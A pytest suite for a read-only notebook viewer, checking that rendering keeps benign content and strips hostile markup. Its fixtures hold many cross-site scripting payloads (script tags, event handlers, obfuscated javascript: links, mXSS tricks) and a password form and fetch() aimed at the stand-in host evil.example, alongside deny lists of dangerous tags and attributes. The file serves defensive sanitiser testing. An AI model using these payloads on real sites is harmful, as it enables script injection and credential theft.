"""The read-only view of a snapshot: what a reader sees, and what a hostile notebook cannot do there."""

from __future__ import annotations

import base64
import copy
import os
import re
import struct
import threading
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
import pytest
from bs4 import BeautifulSoup, Tag
from nbconvert import TemplateExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from nbpool.gateway.snapshot_view import MAX_OUTPUT_CHARS, VIEW_CSP, VIEW_HEADERS, missing_page, render_view

ROOT = Path(__file__).parent.parent
REMIX = "https://nbpool.example/remix/snap1"
DOWNLOAD = "https://snapshots.example/s/snap1.ipynb"
ANSI_TRACEBACK = [
    "\x1b[0;31m---------------------------------------------------------------------------\x1b[0m",
    "\x1b[0;31mZeroDivisionError\x1b[0m                         Traceback (most recent call last)",
    "Cell \x1b[0;32mIn[3], line 1\x1b[0m\n\x1b[0;32m----> 1\x1b[0m \x1b[38;5;241m1\x1b[39m\x1b[38;5;241m/\x1b[39m\x1b[38;5;241m0\x1b[39m",
    "\x1b[0;31mZeroDivisionError\x1b[0m: division by zero",
]
TABLE = ('<div><style scoped>.dataframe tbody tr th:only-of-type {vertical-align: middle;}</style>'
         '<table class="dataframe" border="1"><thead><tr><th></th><th>city</th><th>people</th></tr></thead>'
         '<tbody><tr><th>0</th><td>Lyon</td><td>522250</td></tr><tr><th>1</th><td>Nantes</td><td>320732</td></tr>'
         '</tbody></table></div>')
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60">'
       '<rect width="120" height="60" fill="#eef"/><circle cx="30" cy="30" r="20" fill="#c4500f"/></svg>')

JPEG = "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAMCAgICAgMCAgIDAwMDBAYEBAQEBAgGBgUGCQgKCgkICQkKDA8MCgsOCwkJDRENDg8QEBEQ"


def png(width: int = 4, height: int = 3, noise: bool = False) -> str:
    """A real PNG (a gradient, or noise that does not compress), base64 as notebooks hold it."""
    rows = b"".join(
        b"\x00" + (os.urandom(width * 3) if noise
                   else b"".join(bytes((x * 255 // width, y * 255 // height, 160)) for x in range(width)))
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    data = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
    return base64.b64encode(data).decode()


def render(nb: Any, name: str = "analysis.ipynb") -> str:
    return render_view(nb, name=name, created="2025-12-02T21:10:00+00:00", expires_at="2025-12-09T21:10:00Z",
                       remix_url=REMIX, download_url=DOWNLOAD)


def parse(page: str) -> BeautifulSoup:
    return BeautifulSoup(page, "html.parser", multi_valued_attributes=None)


def notebook_of(page: str) -> Tag:
    """The rendered notebook, the part of the page a snapshot's author controls."""
    main = parse(page).find("main", class_="nbpool-notebook")
    assert isinstance(main, Tag)
    return main


def benign() -> nbformat.NotebookNode:
    nb = new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
                                "language_info": {"name": "python"}})
    nb.cells = [
        new_markdown_cell("# Population report\n\nSome *emphasis*, a [reference](https://example.org/docs) "
                          "and the formula $e^{i\\pi} + 1 = 0$.\n\n![logo](attachment:logo.png)",
                          attachments={"logo.png": {"image/png": png()}}),
        new_code_cell("for city in cities:\n    print(city)", execution_count=1, outputs=[
            new_output("stream", name="stdout", text="Lyon\nNantes\n"),
            new_output("stream", name="stderr", text="a warning on stderr\n"),
        ]),
        new_code_cell("df", execution_count=2, outputs=[
            new_output("execute_result", execution_count=2, data={"text/html": TABLE, "text/plain": "   city ..."}),
        ]),
        new_code_cell("plot()", execution_count=3, outputs=[
            new_output("display_data", data={"image/png": png(40, 20), "text/plain": "<Figure size 640x480>"}),
            new_output("display_data", data={"image/svg+xml": SVG, "text/plain": "<svg figure>"}),
            new_output("display_data", data={"image/jpeg": JPEG, "text/plain": "<photo>"}),
            new_output("display_data", data={"text/latex": "$\\alpha^2$", "text/plain": "alpha**2"}),
        ]),
        new_code_cell("1/0", execution_count=4, outputs=[
            new_output("error", ename="ZeroDivisionError", evalue="division by zero", traceback=ANSI_TRACEBACK),
        ]),
    ]
    return nb


def test_a_notebook_is_shown_with_its_cells_and_outputs() -> None:
    page = render(benign())
    soup = parse(page)
    nb = notebook_of(page)

    heading = nb.find("h1")
    assert heading is not None and "Population report" in heading.get_text()
    assert nb.find("em", string="emphasis") is not None
    assert "$e^{i\\pi} + 1 = 0$" in nb.get_text()  # LaTeX stays as its source: MathJax does not run
    # The code, highlighted (pygments' classes, styled by the template's CSS).
    assert nb.find("span", class_="k", string="for") is not None
    assert nb.find("span", class_="nb", string="print") is not None
    assert "Lyon\nNantes" in nb.get_text() and "a warning on stderr" in nb.get_text()
    # The table, as pandas wrote it, with its own style.
    cells = [td.get_text() for td in nb.find_all("td")]
    assert cells == ["Lyon", "522250", "Nantes", "320732"]
    assert any("dataframe" in (style.string or "") for style in nb.find_all("style"))
    # Images inline: the PNG output, the markdown attachment, the SVG as an image.
    sources = [str(img.get("src", "")) for img in nb.find_all("img")]
    assert f"data:image/png;base64,{png(40, 20)}" in sources
    assert f"data:image/png;base64,{png()}" in sources
    assert any(src.startswith("data:image/svg+xml;base64,") for src in sources)
    assert f"data:image/jpeg;base64,{JPEG}" in sources
    assert "$\\alpha^2$" in nb.get_text()
    # The traceback, in the colours IPython gave it.
    assert "ZeroDivisionError" in nb.get_text() and "division by zero" in nb.get_text()
    assert nb.find("span", class_="ansi-red-fg", string="ZeroDivisionError") is not None

    # The bar above it: name, dates, Remix and Download.
    bar = soup.find("header", class_="nbpool-bar")
    assert isinstance(bar, Tag)
    assert "analysis.ipynb" in bar.get_text()
    assert "2 Dec 2025, 21:10 UTC" in bar.get_text() and "9 Dec 2025, 21:10 UTC" in bar.get_text()
    remix = bar.find("a", string="Remix")
    download = bar.find("a", string="Download .ipynb")
    assert isinstance(remix, Tag) and remix["href"] == REMIX
    assert isinstance(download, Tag) and download["href"] == DOWNLOAD and download.has_attr("download")
    assert soup.title is not None and "analysis.ipynb" in soup.title.get_text()


def test_the_welcome_notebook_renders() -> None:
    nb = nbformat.read(ROOT / "shared" / "assets" / "Welcome.ipynb", as_version=4)
    nb_text = notebook_of(render(nb)).get_text()
    assert "Welcome to nbpool" in nb_text and "platform.python_version" in nb_text


EVIL = "http://evil.example"

HOSTILE_MARKDOWN = f"""# Harmless heading

A harmless paragraph with a [harmless link](https://example.org/ok).
<a href="
  https://example.org/spaced ">spaced link</a>

<script>alert("markdown")</script>
<img src=x onerror="alert('img')" alt="broken">
<a href="javascript:alert('a')">js link</a> <a href="java&#x09;script:alert(1)">tab js link</a>
<a href="&#106;avascript:alert(1)">entity js link</a> <a href="vbscript:msgbox(1)">vb link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="{EVIL}/ok" target="_self" ping="{EVIL}/ping" download>plain evil link</a>
<svg width="10" height="10" onload="alert('svg')"><script>alert('svg script')</script>
<foreignObject><iframe src="{EVIL}/fo"></iframe></foreignObject>
<a xlink:href="javascript:alert('svg a')"><text>svg link</text></a>
<animate attributeName="href" values="javascript:alert(1)"/><set attributeName="href" to="javascript:alert(1)"/>
<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/><image href="{EVIL}/svg.png"/>
<circle class="harmless-circle" r="4" cx="5" cy="5" clip-path="url(#harmless-clip)"/>
<rect fill="url({EVIL}/paint#p)" cursor="url({EVIL}/cursor.png), auto" width="1" height="1"/>
<animate attributeName="fill" to="url({EVIL}/anim#p)"/><animate class="harmless-animate" attributeName="r" values="4;5;4"/>
</svg>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<base href="{EVIL}/">
<form action="{EVIL}/steal" method="post"><input name="password" type="password">
<input type="submit" value="Send"><input type="image" src="{EVIL}/btn.png"><button formaction="{EVIL}/fa">Go</button>
</form>
<link rel="stylesheet" href="{EVIL}/x.css">
<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/bg.png) }}</style>
<style>.harmless-style {{ color: rebeccapurple }}</style>
<div style="background-image: url({EVIL}/style.png)">styled div</div>
<div style="background: u\\72l({EVIL}/escaped.png)">escaped style</div>
<p style="color: teal" class="harmless-styled">harmless styled</p>
<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf"><applet code="x"></applet>
<portal src="{EVIL}/portal"></portal><frameset><frame src="{EVIL}/frame"></frameset>
<img src="{EVIL}/track.png" srcset="{EVIL}/1x.png 1x" alt="tracker">
<img src="data:text/html,<script>alert(1)</script>" alt="data html img">
<video poster="{EVIL}/poster.png"></video><table background="{EVIL}/bg.png"><tr><td>bg table</td></tr></table>
<svg><style><img src=x onerror="alert('mxss style')"></style></svg>
<noscript><p title="</noscript><img src=x onerror=alert('mxss noscript')>">noscript text</p></noscript>
<!--><img src=x onerror="alert('mxss comment')">-->
<math><mi xlink:href="javascript:alert('math')">x</mi></math>
<details open ontoggle="alert('toggle')"><summary>harmless summary</summary></details>

![markdown tracker]({EVIL}/md.png) [markdown js](javascript:alert(1))
"""


def hostile() -> nbformat.NotebookNode:
    nb = new_notebook(metadata={
        "title": "</title><script>alert('title')</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}, "</script><script>alert(1)": 1}},
    })
    nb.cells = [
        new_markdown_cell(HOSTILE_MARKDOWN),
        new_code_cell("print('harmless code')", execution_count=1, outputs=[
            new_output("stream", name="stdout", text="</textarea><script>alert('stream')</script>harmless stream"),
            new_output("display_data", data={"application/javascript": f"fetch('{EVIL}/js')"}),
            new_output("display_data", data={
                "text/html": f"<b>harmless html</b><script>alert('html')</script><img src=x onerror=alert(1)>"
                             f"<a href='{EVIL}/html'>html link</a>",
                "text/plain": "plain fallback"}),
            new_output("display_data", data={"text/markdown": "**harmless md output** <script>alert('md')</script>"}),
            new_output("display_data", data={"text/latex": "<script>alert('latex')</script>$x$"}),
            new_output("display_data", data={"image/svg+xml": "<svg onload=alert(1)><script>alert(1)</script></svg>"}),
            new_output("display_data", data={"text/vnd.mermaid": "graph TD; A-->B; <img src=x onerror=alert(1)>"}),
            new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "x"},
                                             "text/plain": "IntSlider(value=3)"}),
            new_output("display_data", data={"image/png": png()}, metadata={
                "filenames": {"image/png": f"{EVIL}/filename.png"},
                "image/png": {"width": "1 onerror=alert('width')"}}),
            new_output("error", ename="</pre><script>", evalue="x", traceback=["<script>alert('tb')</script>"]),
        ]),
        new_raw_cell("<script>alert('raw')</script><i>harmless raw</i>", metadata={"raw_mimetype": "text/html"}),
    ]
    nb.cells[1].metadata["tags"] = ['x" onmouseover="alert(1)']
    return nb


def attributes(node: Tag) -> list[tuple[Tag, str, str]]:
    return [(tag, name, str(value)) for tag in node.find_all(True) for name, value in tag.attrs.items()]


def test_a_hostile_notebook_loses_every_way_to_run_script_or_fetch() -> None:
    page = render(hostile(), name="<img src=x onerror=alert('name')>")
    soup = parse(page)
    nb = notebook_of(page)

    dangerous = {"script", "iframe", "object", "embed", "frame", "frameset", "base", "meta", "link", "form",
                 "applet", "portal", "foreignobject", "set", "noscript", "template"}
    assert sorted({tag.name for tag in nb.find_all(True)} & dangerous) == []
    assert soup.find_all("script") == [] and soup.find_all("iframe") == []
    assert soup.head is not None
    assert [tag.name for tag in soup.head.find_all(True)] == ["meta", "meta", "title", "style", "style"]
    for tag, name, value in attributes(soup):
        url = re.sub(r"[\t\n\r ]", "", value).lower()
        assert not name.startswith("on"), f"<{tag.name} {name}={value!r}>"
        assert not url.startswith(("javascript:", "vbscript:")), f"<{tag.name} {name}={value!r}>"
        assert "evil.example" not in value or (tag.name == "a" and name == "href"), f"<{tag.name} {name}={value!r}>"
        if url.startswith("data:"):
            assert tag.name == "img" and name == "src" and re.match(r"data:image/(png|svg\+xml);base64,", url)
    for tag, name, value in attributes(nb):
        assert name not in {"srcdoc", "formaction", "action", "ping", "srcset", "http-equiv", "download", "poster",
                            "background", "xlink:href"}, f"<{tag.name} {name}={value!r}>"
        assert name != "src" or tag.name == "img", f"<{tag.name} {name}={value!r}>"
        assert name != "href" or tag.name == "a" or value.startswith("#"), f"<{tag.name} {name}={value!r}>"
    for tag in nb.find_all(["input", "button"]):
        assert tag.name == "input" and tag.get("type") == "password" or tag.get("type") == "button"
    for style in nb.find_all("style"):
        assert "url(" not in (style.string or "") and "@import" not in (style.string or "")
    # Inside <svg> and <math> a browser reads a <style>'s text as markup, where html.parser (above)
    # sees text: no markup may hide there.
    assert not [css for css in re.findall(r"<style[^>]*>(.*?)</style", page, re.DOTALL | re.IGNORECASE) if "<" in css]
    # Nor in comments, which end sooner for a browser than for html.parser (<!--> is one).
    assert "<!--" not in page
    # Links that stay open in a new tab, telling the other side nothing.
    links = [a for a in nb.find_all("a") if a.get("href")]
    assert {str(a["href"]).strip() for a in links} >= {"https://example.org/ok", "https://example.org/spaced",
                                                       f"{EVIL}/ok", f"{EVIL}/html"}
    for a in links:
        href = str(a["href"]).strip()
        assert href.startswith(("https://", "http://", "#")), href
        if not href.startswith("#"):
            assert a["rel"] == "noopener noreferrer nofollow" and a["target"] == "_blank"
    # The evil text is shown as text, never as markup.
    text = nb.get_text()
    assert "</textarea><script>alert('stream')</script>harmless stream" in text
    assert "<script>alert('latex')</script>$x$" in text
    assert soup.title is not None and "<img src=x onerror=alert('name')>" in soup.title.get_text()
    # What was harmless is all there.
    for words in ["Harmless heading", "harmless link", "harmless code", "harmless html", "harmless md output",
                  "plain evil link", "styled div", "harmless styled", "bg table", "harmless summary",
                  "IntSlider(value=3)", "harmless raw", "noscript text"]:
        assert words in text, words
    circle = nb.find("circle", class_="harmless-circle")
    assert isinstance(circle, Tag) and circle["clip-path"] == "url(#harmless-clip)"
    assert nb.find("animate", class_="harmless-animate", attributename="r") is not None
    assert any(".harmless-style" in (style.string or "") for style in nb.find_all("style"))
    assert nb.find("p", class_="harmless-styled", style="color: teal") is not None
    assert nb.find("img", src=f"data:image/png;base64,{png()}") is not None
    assert nb.find("input", type="password") is not None


def test_the_page_runs_no_script_and_links_only_where_it_says() -> None:
    for nb in (benign(), hostile()):
        page = render(nb)
        assert "<script" not in page.lower()
        links = {str(a["href"]).strip() for a in notebook_of(page).find_all("a", target="_blank")}
        allowed = {REMIX, DOWNLOAD, *links}
        found = set(re.findall(r"https?://[^\s\"'<>)]+", page))
        assert found <= allowed, found - allowed


def test_an_svg_output_is_an_image_not_markup() -> None:
    # An <img> shows an SVG without running its scripts or loading what it links to.
    page = render(hostile())
    nb = notebook_of(page)
    assert nb.find("svg", onload=True) is None
    svg_output = nb.find("div", attrs={"data-mime-type": "image/svg+xml"})
    assert isinstance(svg_output, Tag) and svg_output.find("svg") is None
    img = svg_output.find("img")
    assert isinstance(img, Tag) and str(img["src"]).startswith("data:image/svg+xml;base64,")


@pytest.mark.parametrize("make", [
    lambda: {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5},
    lambda: {"cells": [], "nbformat": 4, "nbformat_minor": 0},
    lambda: {"nbformat": 4, "nbformat_minor": 0, "metadata": {}, "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# four", "-zero"]},
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": ["1 +", " 1"], "outputs": [
            {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": ["2"]}}]}]},
    lambda: {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": "# four-five without ids"}]},
], ids=["empty", "no-metadata", "4.0-lines", "4.5-no-ids"])
def test_odd_but_valid_notebooks_render(make: Callable[[], dict[str, Any]]) -> None:
    nb = make()
    before = copy.deepcopy(nb)
    page = render(nb)
    assert notebook_of(page).find(class_="jp-Notebook") is not None
    assert nb == before  # the caller's notebook is left as it was
    if nb["cells"]:
        assert nb["cells"][0]["source"][0].lstrip("# ") in notebook_of(page).get_text()


def test_metadata_of_unexpected_types_is_left_out() -> None:
    # All valid: the schema leaves these open, nbconvert expects one type.
    nb = benign()
    nb.metadata.update({"language": 3, "widgets": {"nonsense": True}, "language_info": {"name": "python", "x": []}})
    nb.cells[1].metadata.update({"transient": "yes", "magics_language": 7})
    nb.cells[3].outputs[0].metadata = {"image/png": [1, 2], "text/html": {"width": 640}}
    nb.cells[3].outputs[1].metadata = {"image/svg+xml": {"width": 300, "height": 100}}
    nbformat.validate(nb)
    text = notebook_of(render(nb)).get_text()
    assert "Lyon\nNantes" in text and "cannot be shown" not in text


def test_an_old_notebook_is_converted() -> None:
    v3 = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "old"}, "worksheets": [{"metadata": {}, "cells": [
        {"cell_type": "heading", "level": 1, "source": "Old times", "metadata": {}},
        {"cell_type": "code", "input": "1 + 1", "language": "python", "prompt_number": 1, "metadata": {},
         "outputs": [{"output_type": "pyout", "prompt_number": 1, "text": "2", "metadata": {}}]}]}]}
    nb = notebook_of(render(v3))
    heading = nb.find("h1")
    assert heading is not None and "Old times" in heading.get_text()
    assert "1 + 1" in nb.get_text() and "Out[1]:" in nb.get_text()


def test_a_notebook_nbconvert_fails_on_still_has_its_page(monkeypatch: pytest.MonkeyPatch,
                                                          caplog: pytest.LogCaptureFixture) -> None:
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise ValueError("nbconvert could not")

    render(new_notebook())  # the page's own CSS comes from nbconvert too, once
    monkeypatch.setattr(TemplateExporter, "from_notebook_node", broken)
    page = parse(render(benign()))
    assert "This notebook cannot be shown here" in page.get_text()
    assert page.find("a", string="Download .ipynb") is not None and page.find("a", string="Remix") is not None
    assert any(r.exc_info and "nbconvert could not" in str(r.exc_info[1]) for r in caplog.records)


def test_what_nbconvert_cannot_show_is_said_not_fatal() -> None:
    nb = {"nbformat": 4, "nbformat_minor": 4, "cells": [
        {"cell_type": "code", "metadata": {"magics_language": "nosuchlanguage"}, "execution_count": None,
         "source": "x = 1", "outputs": [
             {"output_type": "display_data", "metadata": {}, "data": {"application/x-unknown": "zzz"}},
             {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)"}},
             {"output_type": "stream", "name": "stdout", "text": ["one ", "two"]},
             {"output_type": "made-up", "text": "?"}]},
        {"cell_type": "made-up", "metadata": {}, "source": "?"},
        {"cell_type": "markdown", "metadata": {}, "source": "![gone](attachment:missing.png) still here"},
    ], "metadata": {"language_info": {"name": "nosuchlanguage", "pygments_lexer": "nosuchlexer"}}}
    text = notebook_of(render(nb)).get_text()
    assert "x = 1" in text and "one two" in text and "still here" in text
    assert "[output of type application/x-unknown: not shown here]" in text
    assert "[output of type application/javascript: not shown here]" in text
    assert "unknown type" not in text


def test_huge_outputs_are_cut_with_a_note() -> None:
    big = "0123456789" * (MAX_OUTPUT_CHARS // 5)
    nb = new_notebook(cells=[new_code_cell("spam()", outputs=[
        new_output("stream", name="stdout", text=big),
        new_output("display_data", data={"text/html": f"<p>{big}</p>"}),
        new_output("display_data", data={"image/png": png(1400, 800, noise=True)}),
        new_output("error", ename="E", evalue="e", traceback=[big[:400_000]] * 5),
    ])])
    page = render(nb)
    text = notebook_of(page).get_text()
    assert text.count("more characters cut from this view; Download .ipynb has them all") == 3
    assert "[image/png image of" in text and "too big for this view" in text
    assert len(page) < 4 * MAX_OUTPUT_CHARS


def test_renders_in_threads_at_once_are_each_their_own() -> None:
    # Each render sets up the exporter for its notebook (its language among others).
    python = benign()
    shell = new_notebook(metadata={"language_info": {"name": "bash"}},
                         cells=[new_code_cell("for f in *.txt; do echo \"$f\"; done")])
    expected = {"python": render(python), "shell": render(shell)}
    got: dict[str, list[str]] = {"python": [], "shell": []}

    def work(key: str, nb: nbformat.NotebookNode) -> None:
        for _ in range(5):
            got[key].append(render(nb))

    threads = [threading.Thread(target=work, args=(key, nb)) for key, nb in
               [("python", python), ("shell", shell), ("python", python), ("shell", shell)]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(page == expected[key] for key, pages in got.items() for page in pages)
    assert len(got["python"]) == len(got["shell"]) == 10


def test_the_header_escapes_what_it_is_given() -> None:
    page = render_view(new_notebook(), name='a"<b>&', created="yesterday <i>", expires_at="soon",
                       remix_url='/remix/x?a=1&b="2"', download_url="/s/x.ipynb")
    bar = parse(page).find("header")
    assert isinstance(bar, Tag) and bar.find("b") is None and bar.find("i") is None
    assert 'a"<b>&' in bar.get_text() and "yesterday <i>" in bar.get_text()
    remix = bar.find("a", string="Remix")
    assert isinstance(remix, Tag) and remix["href"] == '/remix/x?a=1&b="2"'


def test_missing_and_expired_snapshots_have_a_page_of_their_own() -> None:
    gone = BeautifulSoup(missing_page(410, "Snapshot abc expired <script>", "https://nbpool.example/"),
                         "html.parser")
    assert "expired" in gone.get_text().lower() and "Snapshot abc expired <script>" in gone.get_text()
    assert gone.find("script") is None
    home = gone.find("a")
    assert isinstance(home, Tag) and home["href"] == "https://nbpool.example/"
    unknown = BeautifulSoup(missing_page(404, "no snapshot xyz"), "html.parser")
    assert "not found" in unknown.get_text().lower() and unknown.find("a") is None


def test_the_policy_lets_nothing_run_and_nothing_in() -> None:
    assert VIEW_HEADERS["Content-Security-Policy"] == VIEW_CSP
    assert VIEW_HEADERS["X-Robots-Tag"] == "noindex"
    directives = {d.split()[0]: d.split()[1:] for d in VIEW_CSP.split("; ")}
    assert "allow-scripts" not in directives["sandbox"] and "allow-same-origin" not in directives["sandbox"]
    assert "allow-forms" not in directives["sandbox"] and "allow-top-navigation" not in directives["sandbox"]
    assert directives["default-src"] == ["'none'"] and directives["img-src"] == ["data:"]
    assert "script-src" not in directives and "connect-src" not in directives
